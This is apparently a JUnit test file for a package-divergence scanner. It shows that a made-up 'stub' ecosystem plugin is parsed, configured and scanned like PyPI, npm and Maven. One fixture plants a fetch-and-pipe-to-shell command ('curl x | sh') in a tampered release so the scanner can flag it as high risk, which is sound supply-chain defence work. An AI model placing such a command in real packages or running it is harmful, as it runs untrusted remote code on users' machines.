package dev.divergence.registry.stub;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.archive.ContentSignals;
import dev.divergence.compare.FileKinds;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.demo.PythonDistributions;
import dev.divergence.demo.StaticRegistryServer;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactKind;
import dev.divergence.model.Ecosystem;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileKind;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseCodec;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import dev.divergence.registry.EcosystemOptions;
import dev.divergence.registry.EcosystemPlugins;
import dev.divergence.registry.EcosystemSupport;
import dev.divergence.source.VersionOrder;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An ecosystem the shared code has never heard of — registered only by this package and its services line — is
 * parsed, configured, listed, scanned, ordered and classified through the same code paths as PyPI, npm and Maven.
 */
class StubEcosystemTest {

    private static final Ecosystem STUB = new Ecosystem("stub");

    @TempDir
    Path dir;

    @Test
    void aPurlOfTheNewTypeIsParsedAndCanonicalisedByItsPlugin() {
        PackageId.Ref ref = PackageId.parseRef("pkg:STUB/Foo_Bar@1.2");
        assertEquals(STUB, ref.pkg().ecosystem());
        assertEquals("foo-bar", ref.pkg().name());
        assertEquals("pkg:stub/foo-bar", ref.pkg().purl());
        assertEquals(Optional.of("1.2"), ref.version());
        assertEquals("a stub purl has no namespace: pkg:stub/a/b", assertThrows(IllegalArgumentException.class,
                () -> PackageId.parse("pkg:stub/a/b")).getMessage());
    }

    @Test
    void itsOptionsAreAMapWithItsDefaultsCheckedAgainstWhatItDeclares() throws Exception {
        EcosystemOptions given = EcosystemOptions.of(Map.of("stub", Map.of("url", "http://127.0.0.1:7")));
        assertEquals(Map.of("url", "http://127.0.0.1:7", "index", "index.txt"), given.of(STUB));
        assertEquals("--stub-colour: stub has no option 'colour'", assertThrows(IllegalArgumentException.class,
                () -> EcosystemOptions.of(Map.of("stub", Map.of("colour", "red")))).getMessage());
        assertEquals("--stub-url must be an http:// or https:// URL, not 'file:/x'", assertThrows(
                IllegalArgumentException.class, () -> EcosystemOptions.of(Map.of("stub", Map.of("url", "file:/x"))))
                .getMessage());
        // what a Spark executor receives: plain strings, from which it finds the plugin again by purl type
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(given);
        }
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
            EcosystemOptions received = (EcosystemOptions) in.readObject();
            assertEquals(given, received);
            assertTrue(received.support(STUB, ScanWorld.fetcher()) instanceof StubSupport);
        }
    }

    @Test
    void versionsFollowItsOrderAndFileFactsJoinEveryEcosystems() {
        assertEquals(List.of("x", "1.2", "1.9", "1.10"), VersionOrder.sorted(STUB, List.of("1.10", "1.9", "x", "1.2")));
        assertEquals(FileKind.METADATA, FileKinds.ofPath(STUB, "stub.toml"));
        assertEquals(FileKind.BUILD_OUTPUT, FileKinds.ofPath(STUB, "out/main.stubc"));
        assertEquals(FileKind.TEST, FileKinds.ofPath(STUB, "lib/check_main.stubx"));
        assertEquals(FileKind.CODE, FileKinds.ofPath(Ecosystem.PYPI, "lib/main.stubx"), "a wheel may ship stub code");
        assertEquals(FileKind.METADATA, FileKinds.ofPath(STUB, "package.json"), "npm's facts hold in a stub package");
        assertTrue(new ContentSignals("pkg/install.stub", 0, false).flags().contains(RiskFlag.INSTALL_SCRIPT));
        assertTrue(ContentSignals.scan("lib/main.stubx", "stub.spawn(cmd)\n".getBytes(StandardCharsets.UTF_8), 1 << 20)
                .contains(RiskFlag.DYNAMIC_EXEC));
        assertFalse(ContentSignals.scan("lib/main.stubx", "stub.spawned\n".getBytes(StandardCharsets.UTF_8), 1 << 20)
                .contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(EcosystemPlugins.of(STUB).rebuildStrategy(Map.of()).isEmpty(), "no rebuild strategy: none is run");
    }

    @Test
    void aReleaseIsListedAndScannedThroughTheSharedScanner() throws Exception {
        TreeMap<String, byte[]> tree = new TreeMap<>(Map.of("VERSION", utf8("1.0\n"), "lib/main.stubx",
                utf8("print hello\n"), "README.md", utf8("# foo\n")));
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            String c1 = git.commit(tree, "1.0", Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("v1.0", true);
            tree.put("VERSION", utf8("1.1\n"));
            git.commit(tree, "1.1", Instant.parse("2026-01-02T00:00:00Z"));
            git.tag("v1.1", true);
            Path registry = Files.createDirectories(dir.resolve("registry/foo"));
            Files.write(registry.resolve("foo-1.0.tar.gz"), bundle("1.0", "print hello\n"));
            Files.write(registry.resolve("foo-1.1.tar.gz"), bundle("1.1", "print hello\nstub.spawn('curl x | sh')\n"));
            Files.writeString(registry.resolve("releases.txt"), "1.0 foo-1.0.tar.gz\n1.1 foo-1.1.tar.gz\n");
            try (StaticRegistryServer server = new StaticRegistryServer(dir.resolve("registry"))) {
                EcosystemOptions options = EcosystemOptions.of(Map.of("stub", Map.of("url", server.baseUrl(),
                        "index", "releases.txt")));
                EcosystemSupport support = options.support(PackageId.parse("pkg:stub/foo").ecosystem(),
                        ScanWorld.fetcher());
                List<Release> releases = support.registry().releases(PackageId.parse("pkg:stub/foo"));
                assertEquals(List.of("1.0", "1.1"), releases.stream().map(Release::version).toList());
                Release decoded = ReleaseCodec.fromJson(ReleaseCodec.toJson(releases.get(0)));
                assertSame(StubSupport.BUNDLE, decoded.artifacts().get(0).kind(), "its own kind survives the task JSON");
                assertEquals(ArtifactKind.of("stub_bundle"), decoded.artifacts().get(0).kind());

                ReleaseReport clean = ScanWorld.scanner(support, dir).scan(releases.get(0),
                        Optional.of(git.dir().toString()));
                assertEquals(Optional.of(c1), clean.ref().commit());
                assertEquals(Verdict.EXPLAINED, clean.verdict());
                FileDivergence info = ScanWorld.row(clean.artifacts().get(0), "foo-1.0/STUB-INFO");
                assertEquals(FileStatus.GENERATED, info.status());
                assertEquals("stub.info", info.ruleId());
                assertEquals(FileStatus.MATCH, ScanWorld.row(clean.artifacts().get(0), "foo-1.0/lib/main.stubx").status());

                ReleaseReport tampered = ScanWorld.scanner(support, dir).scan(releases.get(1),
                        Optional.of(git.dir().toString()));
                FileDivergence main = ScanWorld.row(tampered.artifacts().get(0), "foo-1.1/lib/main.stubx");
                assertEquals(FileStatus.MODIFIED, main.status());
                assertTrue(main.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), main.riskFlags().toString());
                assertEquals(Verdict.HIGH_RISK, tampered.verdict());
            }
        }
    }

    private static byte[] bundle(String version, String main) throws java.io.IOException {
        String root = "foo-" + version + "/";
        return PythonDistributions.tarGz(new TreeMap<>(Map.of(root + "VERSION", utf8(version + "\n"),
                root + "lib/main.stubx", utf8(main), root + "README.md", utf8("# foo\n"), root + "STUB-INFO",
                utf8("packed by stub 1.0\n"))));
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
